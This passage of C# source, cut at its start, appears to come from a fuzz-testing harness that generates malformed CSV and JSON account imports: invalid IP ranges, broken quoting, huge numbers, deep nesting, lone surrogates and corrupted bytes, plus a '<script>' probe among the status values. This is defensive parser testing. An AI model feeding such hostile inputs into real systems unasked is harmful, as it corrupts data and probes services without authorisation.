            < 0.92 => "text/plain",
            < 0.96 => null,
            _ => "application/xml",
        };
        return (kind, body, contentType);
    }
}

/// <summary>
/// Hostile account imports: CSV with bad ranges, broken quoting, embedded newlines, 10,000-column rows, huge
/// numbers and unknown statuses; JSON with wrong types, deep nesting and lone surrogates; both broken at the byte level.
/// </summary>
internal sealed class HostileAccounts(int seed)
{
    private static readonly string[] Header = ["name", "domain", "status", "owner", "products", "industry", "employees", "revenue", "country", "ip_ranges"];
    private static readonly string[] Names = ["Volvo Cars", "Scania", "Acme", "Fuzz Corp", "Ørsted", "株式会社テスト", "O'Reilly", "Smith, Jones & Co"];
    private static readonly string[] Statuses = ["customer", "lost-deal", "target", "competitor", "own", ""];
    private static readonly string[] BadStatuses = ["Customer", "CUSTOMER", "prospect", "lost_deal", "lost deal", "none", "0", "1", "null", "target;customer", "<script>"];
    private static readonly string[] BadRanges =
    [
        "300.1.1.1/24", "1.2.3.4/33", "::/129", "198.51.100.0/-1", "1.2.3.4/", "/24", "abc", "198.51.100.1/24", "2001:db8::1/32",
        "198.51.100.0/24/8", "198.51.100.0 /24", "1.2.3", "1.2.3.4.5/32", "fe80::1%eth0/64", "0.0.0.0/0", "::/0", "255.255.255.255/32",
        "198.51.100.0/024", "198.51.100.0/99999999999999999999", "[2001:db8::]/32", "198.51.100.0\u0000/24", "١٩٨.٥١.١٠٠.٠/24",
    ];
    private static readonly string[] HugeNumbers =
    [
        "99999999999999999999", "-1", "1e10", "NaN", "Infinity", "1e400", "79228162514264337593543950336", "-0", "0x10",
        "1,000", "1 000", "2147483648", "1.5", "١٢٣", "+5", "00000000000000000000000000000000000000001", "1e-400", "∞",
    ];

    private static readonly (string Kind, int Weight)[] Kinds =
    [
        ("valid", 8), ("bad-cidr", 12), ("quotes-newlines", 12), ("wide-rows", 5), ("huge-numbers", 10), ("unknown-status", 7),
        ("hostile-strings", 10), ("structure", 8), ("bytes", 10), ("json", 16), ("many-rows", 2),
    ];

    private static readonly int TotalWeight = Kinds.Sum(k => k.Weight);

    public (string Kind, byte[] Body, string? ContentType) Generate(int index)
    {
        var r = new Random(unchecked((seed * 31_337) + index + 101));
        var roll = r.Next(TotalWeight);
        var kind = Kinds.SkipWhile(k => (roll -= k.Weight) >= 0).First().Kind;
        var header = Header.ToList();
        var rows = Enumerable.Range(0, r.Next(1, 12)).Select(_ => Row(r)).ToList();
        var properQuoting = r.Chance(0.7);
        string? text = null;
        switch (kind)
        {
            case "bad-cidr":
                foreach (var row in rows.Where(_ => r.Chance(0.6)))
                {
                    row[9] = string.Join(r.Pick(new[] { ";", ",", " ; " }), Enumerable.Range(0, r.Next(1, 4)).Select(_ => r.Pick(BadRanges)));
                }

                break;

            case "quotes-newlines":
                foreach (var row in rows.Where(_ => r.Chance(0.5)))
                {
                    row[r.Next(row.Count)] = r.Pick(new[] { "\"", "\"\"", "ab\"c", "\"unclosed", "a\nb", "a\r\nb", "line\rbreak", "\"q\"\"uoted\"", "x\"\n\"y", "\n\n\n", ",,,", "\"a\",\"b\"" });
                }

                properQuoting = r.Chance(0.5);
                break;

            case "wide-rows":
            {
                var wide = Enumerable.Range(0, 10_000).Select(i => r.Chance(0.1) ? $"c{i}" : "").ToList();
                if (r.Chance(0.3))
                {
                    header.AddRange(wide.Select((_, i) => $"extra{i}"));
                }

                rows[r.Next(rows.Count)].AddRange(wide);
                break;
            }

            case "huge-numbers":
                foreach (var row in rows.Where(_ => r.Chance(0.7)))
                {
                    row[6] = r.Pick(HugeNumbers);
                    row[7] = r.Pick(HugeNumbers);
                }

                break;

            case "unknown-status":
                foreach (var row in rows.Where(_ => r.Chance(0.7)))
                {
                    row[2] = r.Pick(BadStatuses);
                }

                break;

            case "hostile-strings":
                foreach (var row in rows)
                {
                    row[r.Next(row.Count)] = r.Chance(0.1) ? Hostile.Long(r, 60_000) : r.Pick(Hostile.Strings);
                }

                break;

            case "structure":
                switch (r.Next(8))
                {
                    case 0:
                        header.Clear();
                        break;
                    case 1:
                        rows.Clear();
                        break;
                    case 2:
                        header = [.. header.Select(h => h.ToUpperInvariant())];
                        break;
                    case 3:
                        header = [.. header.Select(h => h.Replace('_', ' '))];
                        break;
                    case 4:
                        header.Add("name");
                        header.Add("domain");
                        break;
                    case 5:
                        header.Reverse();
                        break;
                    case 6:
                        text = string.Join('\n', rows.Select(row => string.Join(';', row)));
                        break;
                    default:
                        text = r.Pick(new[] { "", "\n\n\n", ",", "name", "\"", "name,domain\n\"" });
                        break;
                }

                break;

            case "many-rows":
            {
                var count = r.Chance(0.15) ? 100_001 : r.Next(1000, 5000);
                rows = [.. Enumerable.Range(0, count).Select(i => new List<string> { $"n{i}", count > 100_000 ? "" : $"many{i % 300}.example", "target", "", "", "", "", "", "", "" })];
                break;
            }

            case "json":
                return ("json:" + JsonKind(r, rows, out var json), json, r.Pick(new[] { "application/json", "application/json", "text/plain", null, "application/json; charset=utf-8" }));
        }

        text ??= Render(header, rows, properQuoting, r.Pick(new[] { "\n", "\r\n", "\r" }));
        var body = Encoding.UTF8.GetBytes(text);
        if (kind == "bytes")
        {
            (kind, body, _) = Hostile.Bytes(r, body);
            kind = "bytes:" + kind;
        }

        return ("csv:" + kind, body, r.Pick(new[] { "text/csv", "text/csv", "text/csv", "text/csv; charset=utf-8", "TEXT/CSV", "text/csv; header=present" }));
    }

    private static List<string> Row(Random r)
    {
        var n = r.Next(300);
        return
        [
            $"{r.Pick(Names)} {n}",
            r.Chance(0.9) ? $"company{n}.example" : "",
            r.Pick(Statuses),
            r.Pick(new[] { "erik", "anna", "" }),
            r.Chance(0.5) ? "widget;gadget" : "",
            r.Pick(new[] { "automotive", "manufacturing", "" }),
            r.Next(0, 100_000).ToString(CultureInfo.InvariantCulture),
            r.Chance(0.5) ? "1234567.89" : "",
            r.Pick(new[] { "SE", "PL", "us", "" }),
            r.Chance(0.7) ? $"198.51.100.{n % 256}/32;2001:db8:{n:x}::/48" : "",
        ];
    }

    private static string Render(List<string> header, List<List<string>> rows, bool properQuoting, string newline)
    {
        string Cell(string cell) => properQuoting && cell.IndexOfAny([',', '"', '\n', '\r']) >= 0 ? $"\"{cell.Replace("\"", "\"\"", StringComparison.Ordinal)}\"" : cell;
        var lines = rows.Select(row => string.Join(',', row.Select(Cell)));
        return string.Join(newline, header.Count > 0 ? lines.Prepend(string.Join(',', header)) : lines);
    }

    private static string JsonKind(Random r, List<List<string>> rows, out byte[] body)
    {
        var draft = new JsonDraft(r);
        var array = new JsonArray();
        foreach (var row in rows)
        {
            var o = new JsonObject();
            for (var i = 0; i < Header.Length; i++)
            {
                o[Header[i]] = i switch
                {
                    4 or 9 when r.Chance(0.5) => new JsonArray(row[i].Split(';').Select(v => (JsonNode?)JsonValue.Create(v)).ToArray()),
                    6 when r.Chance(0.5) && int.TryParse(row[i], NumberStyles.Integer, CultureInfo.InvariantCulture, out var employees) => employees,
                    _ => row[i],
                };
            }

            array.Add(o);
        }

        string kind;
        switch (r.Next(9))
        {
            case 0:
                kind = "valid";
                break;
            case 1:
                kind = "wrong-types";
                for (var n = r.Next(1, 5); n > 0; n--)
                {
                    var (parent, key) = r.Pick(JsonDraft.Slots(array));
                    JsonDraft.Set(parent, key, Hostile.WrongType(r, draft));
                }

                break;
            case 2:
                kind = "edge-numbers";
                foreach (var o in array.OfType<JsonObject>())
                {
                    o[r.Pick(new[] { "employees", "revenue", "name", "ip_ranges" })] = draft.Raw(r.Pick(Hostile.EdgeNumbers));
                }

                break;
            case 3:
                kind = "lone-surrogates";
                foreach (var o in array.OfType<JsonObject>())
                {
                    o[r.Pick(Header)] = draft.Raw(r.Pick(Hostile.LoneSurrogates));
                }

                break;
            case 4:
                kind = "deep-nesting";
                JsonDraft.Set(array, 0, draft.Raw(Hostile.Nesting(r, r.Chance(0.3) ? 10_000 : r.Next(17, 2000))));
                break;
            case 5:
                kind = "not-an-array";
                body = Encoding.UTF8.GetBytes(r.Pick(new[] { "{}", "null", "\"x\"", "1", "{\"name\":\"Acme\"}", "[1,2,3]", "[null]", "[[]]", "", "[", "[{\"name\":\"A\",\"name\":\"B\",\"domain\":\"dup.example\"}]" }));
                return kind;
            case 6:
                kind = "bad-values";
                foreach (var o in array.OfType<JsonObject>())
                {
                    o["ip_ranges"] = new JsonArray(r.Pick(BadRanges), 1, null, new JsonObject());
                    o["status"] = r.Pick(BadStatuses);
                    o["ipRanges"] = r.Pick(BadRanges);
                }

                break;
            case 7:
                kind = "hostile-strings";
                foreach (var o in array.OfType<JsonObject>())
                {
                    o[r.Pick(Header)] = r.Chance(0.1) ? Hostile.Long(r, 60_000) : r.Pick(Hostile.Strings);
                }

                break;
            default:
                (kind, body, _) = Hostile.Bytes(r, draft.Render(array));
                return "bytes:" + kind;
        }

        body = draft.Render(array);
        return kind;
    }
}
